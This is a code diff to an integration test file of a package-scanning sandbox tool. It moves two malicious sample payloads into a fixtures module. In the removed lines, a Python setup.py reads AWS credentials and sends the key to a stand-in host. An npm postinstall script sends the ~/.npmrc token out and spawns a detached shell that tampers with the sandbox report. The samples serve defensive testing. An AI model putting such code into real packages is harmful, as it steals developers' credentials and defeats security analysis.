@@ -21,6 +21,7 @@ from packguard.common.report import AnalysisReport, Finding, VerdictLabel
 from packguard.runner.analysis import TaskWorkspace
 from packguard.runner.sandbox import DockerSandbox, SandboxLimits, SandboxOutcome, container_config
 from tests.fixtures.packages import BuiltArtifact, npm_tarball, pypi_sdist
+from tests.fixtures.samples import NPM_POSTINSTALL, STEALER_SETUP
 
 pytestmark = [pytest.mark.integration, pytest.mark.slow]
 
@@ -32,27 +33,6 @@ LIMITS = SandboxLimits(
     nofile=(1024, 4096),
     nproc=(1024, 4096),
 )
-STEALER_SETUP = """
-import os, urllib.request
-from setuptools import setup
-
-key = open(os.path.expanduser("~/.aws/credentials")).read().split("aws_access_key_id = ")[1]
-try:
-    urllib.request.urlopen("http://exfil.invalid/collect?k=" + key.split()[0], timeout=5)
-except Exception:
-    pass
-setup(name="stealer", version="1.0", py_modules=["stealer"])
-"""
-NPM_POSTINSTALL = """
-const fs = require('fs'), https = require('https'), os = require('os');
-const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
-const request = https.request({ host: 'npm-telemetry.invalid', path: '/t', method: 'POST' });
-request.on('error', () => {});
-request.end(token);
-// Outlive the phase and tamper with the report: the sandbox must not let it.
-const tamper = 'sleep 20; echo tampered > /sandbox/output/report.json';
-require('child_process').spawn('sh', ['-c', tamper], { detached: true, stdio: 'ignore' }).unref();
-"""
 
 
 @pytest_asyncio.fixture(loop_scope="session")
